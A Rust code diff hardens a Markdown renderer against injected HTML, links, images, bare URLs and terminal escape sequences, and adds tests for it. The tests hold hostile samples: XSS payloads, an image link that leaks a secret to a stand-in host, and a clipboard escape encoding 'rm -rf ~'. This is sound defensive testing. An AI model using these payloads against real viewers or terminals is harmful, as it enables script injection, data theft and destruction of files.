@@ -1,7 +1,9 @@
-//! Markdown only the tool structures: text from a work item, a runner or a person is escaped so
-//! a CommonMark reader finds no heading, quote, fence, table, thematic break or HTML in it that
-//! the tool did not write, while a work item's own code blocks stay code blocks and its list
-//! items stay list items (one level, their text escaped like the rest).
+//! Markdown only the tool structures: text from a work item, a runner, the repository or a person
+//! is passed through the sanitiser ([`crate::receipt::sanitize`]), then escaped so a CommonMark
+//! reader finds no heading, quote, fence, table, thematic break, raw HTML, image or link in it
+//! that the tool did not write — a URL in it is shown as code, never a link a viewer follows or
+//! an image it loads — while a work item's own code blocks stay code blocks and its list items
+//! stay list items (one level, their text escaped like the rest).
 //!
 //! Not for: deciding what a document contains (see `document`).
 
@@ -101,10 +103,13 @@ pub fn quoted_item(text: &str) -> String {
     quoted
 }
 
-/// Line breaks normalised (`\r\n`, `\r`, U+2028 and U+2029 all become `\n`).
+/// Line breaks normalised (`\r\n`, `\r`, U+2028 and U+2029 all become `\n`), then sanitised:
+/// no escape sequence or control character, bidi and other invisible controls made visible.
 fn flatten(text: &str) -> String {
-    text.replace("\r\n", "\n")
-        .replace(['\r', '\u{2028}', '\u{2029}'], "\n")
+    let lines = text
+        .replace("\r\n", "\n")
+        .replace(['\r', '\u{2028}', '\u{2029}'], "\n");
+    crate::receipt::sanitize(&lines).0
 }
 
 /// Whether [`blocks`] keeps list items as list items or escapes their markers as text.
@@ -179,14 +184,16 @@ fn escape_line(line: &str) -> String {
         }
     }
     escape_inline(rest, &mut out);
-    if out.ends_with('\\') && !out.ends_with("\\\\") {
+    // An odd run of backslashes at the end would make the tool's own line break a hard break.
+    if out.chars().rev().take_while(|&c| c == '\\').count() % 2 == 1 {
         out.push('\\');
     }
     out
 }
 
-/// `<` and `|` escaped, code spans kept as they are, a backtick run without its closing run
-/// escaped.
+/// `<`, `[` and `|` escaped (so no raw HTML, autolink, link, image or table cell can start), a
+/// URL put in a code span (so no viewer makes it a link), code spans and backslash escapes kept as
+/// they are, a backtick run without its closing run escaped.
 fn escape_inline(text: &str, out: &mut String) {
     let bytes = text.as_bytes();
     let mut i = 0;
@@ -206,8 +213,31 @@ fn escape_inline(text: &str, out: &mut String) {
             }
             continue;
         }
+        // A backslash escape is one literal character to a reader: copied whole, so an escaped
+        // backtick opens no code span here that a reader would not see either.
+        if b == b'\\' && bytes.get(i + 1).is_some_and(u8::is_ascii_punctuation) {
+            out.push_str(&text[i..i + 2]);
+            i += 2;
+            continue;
+        }
+        if let Some(len) = url_at(text, i) {
+            // A space keeps the span's backticks from joining a backtick next to it into a
+            // longer run, which would pair the spans differently for a reader.
+            if out.ends_with('`') {
+                out.push(' ');
+            }
+            out.push('`');
+            out.push_str(&text[i..i + len]);
+            out.push('`');
+            i += len;
+            if text[i..].starts_with('`') {
+                out.push(' ');
+            }
+            continue;
+        }
         match b {
             b'<' => out.push_str("\\<"),
+            b'[' => out.push_str("\\["),
             b'|' => out.push_str("\\|"),
             _ => {
                 let c = text[i..].chars().next().unwrap_or(' ');
@@ -218,6 +248,46 @@ fn escape_inline(text: &str, out: &mut String) {
         }
         i += 1;
     }
+}
+
+/// The length of the URL starting at byte `i` of `text`, if one does there: `http://`,
+/// `https://`, `ftp://` or `www.` at the start of a word, up to a blank, a quote, a backtick or an
+/// angle bracket, without the punctuation that ends a sentence or an unmatched `)` (as a GFM
+/// viewer would find it to make it a link).
+fn url_at(text: &str, i: usize) -> Option<usize> {
+    let rest = &text[i..];
+    let starts = ["http://", "https://", "ftp://", "www."].iter().any(|p| {
+        rest.get(..p.len())
+            .is_some_and(|s| s.eq_ignore_ascii_case(p))
+    });
+    let after_word = text[..i]
+        .chars()
+        .next_back()
+        .is_some_and(|c| c.is_alphanumeric());
+    if !starts || after_word {
+        return None;
+    }
+    let mut len = rest
+        .find(|c: char| c.is_whitespace() || matches!(c, '`' | '<' | '>' | '"' | '\''))
+        .unwrap_or(rest.len());
+    loop {
+        let url = &rest[..len];
+        let Some(last) = url.chars().next_back() else {
+            return None;
+        };
+        let unmatched_paren = last == ')' && url.matches(')').count() > url.matches('(').count();
+        if matches!(
+            last,
+            '.' | ',' | ':' | ';' | '!' | '?' | '*' | '_' | '~' | '\\'
+        ) || unmatched_paren
+        {
+            len -= last.len_utf8();
+        } else {
+            break;
+        }
+    }
+    // A bare scheme or `www.` with nothing after it is no URL.
+    (rest[..len].trim_end_matches('/').len() > rest[..len].find([':', '.'])? + 1).then_some(len)
 }
 
 /// Where a run of exactly `n` backticks starts in `text`, if one does.
@@ -306,6 +376,164 @@ fn code_block(lang: &str, body: &[&str]) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+    use proptest::prelude::*;
+    use pulldown_cmark::{Event, Options, Parser, Tag};
+
+    /// What a Markdown viewer would make live in `md`: raw HTML, images and links (autolinks
+    /// included), as a CommonMark reader with every extension finds them.
+    fn live(md: &str) -> Vec<String> {
+        Parser::new_ext(md, Options::all())
+            .filter_map(|e| match e {
+                Event::Html(h) | Event::InlineHtml(h) => Some(format!("html {h}")),
+                Event::Start(Tag::Image { dest_url, .. }) => Some(format!("image {dest_url}")),
+                Event::Start(Tag::Link { dest_url, .. }) => Some(format!("link {dest_url}")),
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// The code spans a reader finds in `md`.
+    fn code_spans(md: &str) -> Vec<String> {
+        Parser::new_ext(md, Options::all())
+            .filter_map(|e| match e {
+                Event::Code(c) => Some(c.to_string()),
+                _ => None,
+            })
+            .collect()
+    }
+
+    #[test]
+    fn escape_sequences_and_controls_are_removed_and_bidi_marked_before_escaping() {
+        let hostile = "a\u{1b}]52;c;cm0gLXJmIH4K\u{7}b\u{1b}[2Jc\u{0}d\u{9b}2Je\u{202E}f\u{85}";
+        assert_eq!(inline(hostile), "abcde\\<U+202E>f");
+        assert_eq!(prose(hostile), "abcde\\<U+202E>f\n");
+        assert_eq!(quoted_item(hostile), "> abcde\\<U+202E>f\n");
+        let in_code = quoted_item("```\nx\u{1b}[2J\u{0}\u{202E}y\n```");
+        assert_eq!(in_code, "> ```\n> x<U+202E>y\n> ```\n");
+    }
+
+    #[test]
+    fn raw_html_is_shown_as_text() {
+        for html in [
+            "<img src=x onerror=alert(1)>",
+            "<script>fetch('https://example.invalid/')</script>",
+            "<!-- hidden -->",
+            "<details open><summary>x</summary></details>",
+        ] {
+            for md in [
+                inline(html),
+                prose(html),
+                quoted_item(&format!("text {html}")),
+            ] {
+                assert_eq!(live(&md), Vec::<String>::new(), "{md}");
+            }
+        }
+        assert_eq!(inline("<img src=x>"), "\\<img src=x>");
+    }
+
+    #[test]
+    fn an_image_is_shown_as_text_with_its_url_as_code() {
+        let md = prose("see ![](https://example.invalid/?leak=SECRET) here");
+        assert_eq!(live(&md), Vec::<String>::new(), "{md}");
+        assert_eq!(
+            md,
+            "see !\\[](`https://example.invalid/?leak=SECRET`) here\n"
+        );
+        let by_reference = prose("![logo][r]\n\n[r]: https://example.invalid/p.png");
+        assert_eq!(live(&by_reference), Vec::<String>::new(), "{by_reference}");
+    }
+
+    #[test]
+    fn a_link_is_shown_as_text_with_its_url_as_code() {
+        let md = inline("[click](https://example.invalid/a?b=c) [ref][1] [[wiki]]");
+        assert_eq!(live(&md), Vec::<String>::new(), "{md}");
+        assert_eq!(code_spans(&md), ["https://example.invalid/a?b=c"]);
+    }
+
+    #[test]
+    fn an_autolink_or_a_bare_url_is_shown_as_code() {
+        let md = inline(
+            "<https://example.invalid/auto> and https://example.invalid/bare, www.example.invalid.",
+        );
+        assert_eq!(live(&md), Vec::<String>::new(), "{md}");
+        assert_eq!(
+            code_spans(&md),
+            [
+                "https://example.invalid/auto",
+                "https://example.invalid/bare",
+                "www.example.invalid"
+            ]
+        );
+        // Parentheses a URL holds stay in it; the one that closes the sentence does not.
+        assert_eq!(
+            inline("(see https://e.invalid/Rust_(language))"),
+            "(see `https://e.invalid/Rust_(language)`)"
+        );
+        // Not a URL: a word that only contains one, or a scheme alone.
+        assert_eq!(inline("awww.x http:// https"), "awww.x http:// https");
+    }
+
+    #[test]
+    fn an_escaped_backtick_opens_no_code_span_hiding_html() {
+        let md = inline("\\`<img src=x onerror=alert(1)>`");
+        assert_eq!(live(&md), Vec::<String>::new(), "{md}");
+    }
+
+    #[test]
+    fn a_url_next_to_backticks_cannot_join_them_into_one_run() {
+        for text in [
+            "https://x.invalid``<img src=x onerror=alert(1)>``",
+            "``<img src=x onerror=alert(1)>``https://x.invalid",
+            "`a`https://x.invalid`<img src=x>`",
+        ] {
+            let md = inline(text);
+            assert_eq!(live(&md), Vec::<String>::new(), "{text} gave {md}");
+        }
+    }
+
+    #[test]
+    fn code_spans_stay_code_spans() {
+        assert_eq!(inline("run `a <b> [c](d)` now"), "run `a <b> [c](d)` now");
+    }
+
+    /// Text made of what opens HTML, images, links and code spans, so they actually occur.
+    fn hostile_markdown() -> impl Strategy<Value = String> {
+        let pieces = prop::collection::vec(
+            prop_oneof![
+                Just("<".to_string()),
+                Just(">".to_string()),
+                Just("img src=x onerror=y".to_string()),
+                Just("!".to_string()),
+                Just("[".to_string()),
+                Just("]".to_string()),
+                Just("(".to_string()),
+                Just(")".to_string()),
+                Just("`".to_string()),
+                Just("\\".to_string()),
+                Just("https://e.invalid/".to_string()),
+                Just("www.e.invalid".to_string()),
+                Just("<!--".to_string()),
+                Just(":".to_string()),
+                Just("\n".to_string()),
+                Just(" ".to_string()),
+                Just("\u{1b}[2J".to_string()),
+                Just("\u{202E}".to_string()),
+                "[a-z]{0,3}",
+            ],
+            0..30,
+        );
+        pieces.prop_map(|p| p.concat())
+    }
+
+    proptest! {
+        #[test]
+        fn nothing_a_text_holds_becomes_live_or_invisible(text in hostile_markdown()) {
+            for md in [inline(&text), prose(&text), quoted_item(&text)] {
+                prop_assert_eq!(live(&md), Vec::<String>::new(), "{:?} gave {:?}", text, md);
+                prop_assert!(!md.chars().any(crate::receipt::is_forbidden), "{:?}", md);
+            }
+        }
+    }
 
     #[test]
     fn block_starters_are_escaped() {
